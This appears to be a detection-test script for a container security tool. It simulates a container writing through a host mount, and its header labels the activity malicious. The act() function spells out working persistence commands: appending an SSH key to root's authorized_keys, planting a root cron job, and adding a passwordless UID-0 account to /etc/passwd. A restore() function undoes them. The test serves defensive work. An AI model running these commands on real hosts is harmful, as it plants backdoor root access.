# host-file-written-through-mount: containers with the host's root mounted leave a key, a job and an account there.
# shows: files below the mount written from inside a container
# as: deploy
# label: malicious
# expects: [host-file-written-through-mount]
# allows: [host-root-mount, socket-parent-mount, sensitive-mount-rw, privileged-container, dangerous-capability-added, container-confinement-disabled, host-namespaces-shared, engine-socket-connected, command-executed-in-container, shell-opened-in-container, setuid-program-planted, root-account-made, authorized-keys-changed, cron-table-changed, suspicious-start-entry-written]
act() {
    if dev; then
        docker run --rm -v /:/host alpine:3.19 sh -c 'mkdir -p /host/root/.ssh; echo "ssh-ed25519 AAAAlab x" >>/host/root/.ssh/authorized_keys; echo "* * * * * root /tmp/x" >/host/etc/cron.d/sys'
    else
        docker run -d --name node1 --mount type=bind,source=/etc,target=/mnt/etc busybox:1.36 sleep 30
        docker exec node1 sh -c 'cp /mnt/etc/passwd /mnt/etc/passwd.n; echo "svc::0:0::/:/bin/sh" >>/mnt/etc/passwd.n; mv /mnt/etc/passwd.n /mnt/etc/passwd'
        docker exec node1 sed -i 's/^svc.*//' /mnt/etc/passwd
        docker rm -f node1
    fi
    true
}
restore() { rm -f /etc/cron.d/sys; sed -i '/^svc:/d;/^$/d' /etc/passwd; }
